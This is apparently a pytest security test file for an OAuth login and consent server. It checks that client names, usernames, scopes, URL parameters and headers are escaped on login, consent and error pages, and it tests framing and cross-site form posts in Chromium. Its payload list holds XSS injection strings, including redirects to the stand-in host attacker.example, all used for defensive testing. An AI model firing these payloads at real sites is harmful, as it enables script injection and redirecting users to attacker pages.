"""Text that could become markup, in every field that is shown (ASVS V1.2, V3.2); the last ones in a real Chromium."""
import html
import pathlib
import tempfile
import urllib.parse

import pytest

from attacker import refused_with_page
from callback import Callback, make_certificate
from chromium import Browser as Chromium

PAYLOADS = {
    'script': '<script>alert(1)</script>',
    'image': '<img src=x onerror=alert(1)>',
    'attribute': '" autofocus onfocus=alert(1) x="',
    'attribute-single': "' onfocus=alert(1) x='",
    'close-title': '</title><script>alert(1)</script>',
    'close-style': '</style><svg onload=alert(1)>',
    'meta-refresh': '<meta http-equiv=refresh content="0;url=//attacker.example">',
    'base': '<base href=//attacker.example>',
    'form': '</form><form action=//attacker.example>',
    'template': '{{CSRF}}{{{CSRF}}}{{>HEAD}}{{%AUTOESCAPE}}',
    'entity': '&lt;script&gt;alert(1)&lt;/script&gt;',
    'comment': '<!--',
    'right-to-left': '\u202egnp.exe<b>',
    'utf7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
}


def shown_as_text(body, payload):
    """The text is in the page, escaped, and nowhere unescaped."""
    escaped = html.escape(payload)
    if escaped != payload:
        assert payload not in body
    assert html.unescape(body).count(payload) > 0
    for markup in ('<script', '<img', '<base', '<iframe', '<svg onload', '<meta http'):
        assert markup not in body.lower()
    assert body.count('<form') <= 1


@pytest.mark.parametrize('name', sorted(set(PAYLOADS) - {'right-to-left'}))  # that cannot be registered
def test_the_clients_name(stack, name):
    """STILE-flow-31"""
    client = stack.client('--name', PAYLOADS[name])
    browser = stack.browser()
    login = browser.begin(client)
    shown_as_text(browser.get(login).body, PAYLOADS[name])
    browser.cookies |= stack.browser('alice').cookies
    consent = login.replace('/login', '/approve')
    shown_as_text(browser.get(consent).body, PAYLOADS[name])
    browser.approve(consent)
    shown_as_text(browser.get(consent).body, PAYLOADS[name])  # "You have already answered"


@pytest.mark.parametrize('name', PAYLOADS)
def test_the_user_name_that_was_typed(stack, web, name):
    """STILE-security-15"""
    browser = stack.browser()
    answer = browser.log_in(browser.begin(web), PAYLOADS[name], 'wrong')
    assert answer.status == 403
    shown_as_text(answer.body, PAYLOADS[name])


@pytest.mark.parametrize('name', PAYLOADS)
def test_the_password_never_comes_back(stack, web, name):
    """STILE-security-15"""
    browser = stack.browser()
    answer = browser.log_in(browser.begin(web), 'alice', PAYLOADS[name])
    assert answer.status == 403
    assert PAYLOADS[name] not in html.unescape(answer.body)


SCOPES = ['<script>alert(1)</script>', "'onfocus=alert(1)", '<img/src=x/onerror=alert(1)>', '{{CSRF}}', '&lt;b&gt;',
          '</code><svg/onload=alert(1)>', '<!--', '`${alert(1)}`']


@pytest.mark.parametrize('scope', SCOPES)
def test_a_scope_on_the_consent_page(stack, scope):
    """STILE-security-15"""
    client = stack.client(scope=scope)
    browser = stack.browser('alice')
    shown_as_text(browser.get(browser.begin(client, scope=scope)).body, scope)


REFLECTED = ['client_id', 'redirect_uri', 'state', 'scope', 'response_type', 'code_challenge', 'prompt', 'error', 'x']


@pytest.mark.parametrize('parameter', REFLECTED)
@pytest.mark.parametrize('name', ['script', 'attribute', 'template'])
def test_an_error_page_shows_no_parameter(stack, web, parameter, name):
    """STILE-security-15"""
    sent = {'client_id': 'nobody', 'redirect_uri': web.redirect_uri} | {parameter: PAYLOADS[name]}
    answer = stack.send('GET', stack.request_of(web, **sent))
    refused_with_page(answer)
    assert PAYLOADS[name] not in html.unescape(answer.body)


@pytest.mark.parametrize('path', ['/login', '/approve'])
@pytest.mark.parametrize('name', PAYLOADS)
def test_a_request_that_is_none_is_not_shown(stack, path, name):
    """STILE-security-15"""
    answer = stack.send('GET', f'{path}?request={urllib.parse.quote(PAYLOADS[name])}')
    refused_with_page(answer)
    assert PAYLOADS[name] not in html.unescape(answer.body)


@pytest.mark.parametrize('header', ['User-Agent', 'Referer', 'X-Request-Id', 'Cookie', 'Accept-Language',
                                    'X-Forwarded-For'])
def test_an_error_page_shows_no_header(stack, header):
    """STILE-security-15"""
    answer = stack.send('GET', '/oauth/authorize', headers={header: PAYLOADS['script']})
    refused_with_page(answer)
    assert 'alert(1)' not in html.unescape(answer.body)


@pytest.mark.parametrize('fields', [{'grant_type': '<script>alert(1)</script>'}, {'code': '<b>'}, {'scope': '<b>'},
                                    {'<script>': 'x'}], ids=['grant_type', 'code', 'scope', 'name'])
def test_an_error_for_programs_is_json_and_shows_no_parameter(stack, web, fields):
    """STILE-security-15"""
    answer = stack.token(web, **{'grant_type': 'client_credentials'} | fields)
    assert answer.header('content-type') == 'application/json'
    assert answer.header('x-content-type-options') == 'nosniff'
    assert '<' not in answer.body


def test_responses_of_nginx_itself_do_not_repeat_the_url(stack):
    """STILE-security-15"""
    for target in ('/%3Cscript%3Ealert(1)%3C/script%3E', '/<script>', '/oauth/%22onload=alert(1)'):
        answer = stack.send('GET', target)
        assert answer.status == 404
        assert 'alert' not in answer.body and '<script' not in answer.body


# In a real browser -------------------------------------------------------------------------------------------------

@pytest.fixture(scope='module')
def landing():
    with tempfile.TemporaryDirectory() as folder:
        with Callback('/callback', make_certificate(pathlib.Path(folder), 'client.example')) as callback:
            yield callback


@pytest.fixture(scope='module')
def chromium(landing):
    with Chromium({'client.example': f'127.0.0.1:{landing.port}'}) as browser:
        yield browser


@pytest.mark.parametrize('name', ['script', 'image', 'attribute', 'close-title', 'close-style', 'meta-refresh', 'base'])
def test_nothing_runs_and_nothing_moves_in_chromium(stack, chromium, name):
    """STILE-security-15"""
    chromium.start_afresh()
    client = stack.client('--name', PAYLOADS[name], scope='<script>alert(2)</script>')
    chromium.open(stack.base + stack.request_of(client, scope='<script>alert(2)</script>'))
    for user, heading in ((PAYLOADS[name], 'Sign in'), ('alice', 'Allow access?')):
        at = chromium.driver.current_url
        chromium.fill('Username', user)
        chromium.fill('Password', 'alice')
        chromium.press('Sign in')
        chromium.wait_for_heading(heading)
        if heading == 'Sign in':
            chromium.wait(lambda: 'do not match' in chromium.text(), 'the refusal')
            assert chromium.driver.current_url == at
        assert PAYLOADS[name].strip() in chromium.run('return document.title') + chromium.text()
        assert chromium.run('return document.scripts.length') == 0
        assert chromium.run('return document.querySelectorAll("img, base, [onfocus], meta[http-equiv]").length') == 0
        assert chromium.driver.current_url.startswith(stack.base)
    assert '<script>alert(2)</script>' in chromium.text()
    assert chromium.complaints() == []  # no script was even tried: the policy blocked nothing


def test_a_page_in_a_frame_of_another_site_stays_empty_in_chromium(stack, chromium, web, landing):
    """STILE-flow-30"""
    chromium.start_afresh()
    chromium.open('https://client.example/elsewhere')
    chromium.run('const f = document.createElement("iframe"); f.src = arguments[0]; document.body.append(f);'
                 'window.loaded = new Promise(done => f.onload = done)', stack.base + stack.request_of(web))
    chromium.driver.execute_async_script('window.loaded.then(arguments[0])')
    chromium.driver.switch_to.frame(chromium.all('iframe')[0])
    assert 'Sign in' not in chromium.text()
    chromium.driver.switch_to.default_content()


def test_a_form_of_another_site_is_refused_in_chromium(stack, chromium, web):
    """STILE-browser-13"""
    chromium.start_afresh()
    chromium.open(stack.base + stack.request_of(web))
    chromium.log_in('alice', 'alice')
    chromium.wait_for_heading('Allow access?')
    target = chromium.driver.current_url
    token = chromium.all('[name=csrf_token]')[0].get_attribute('value')
    before = stack.issued()
    chromium.open('https://client.example/elsewhere')
    chromium.run('const f = document.createElement("form"); f.method = "post"; f.action = arguments[0];'
                 'for (const [n, v] of [["csrf_token", arguments[1]], ["approval", "1"]]) {'
                 'const i = document.createElement("input"); i.name = n; i.value = v; f.append(i); }'
                 'document.body.append(f); f.submit()', target, token)
    chromium.wait_for_heading('This request cannot continue')
    assert stack.issued() <= before  # what other tests issued may have expired meanwhile
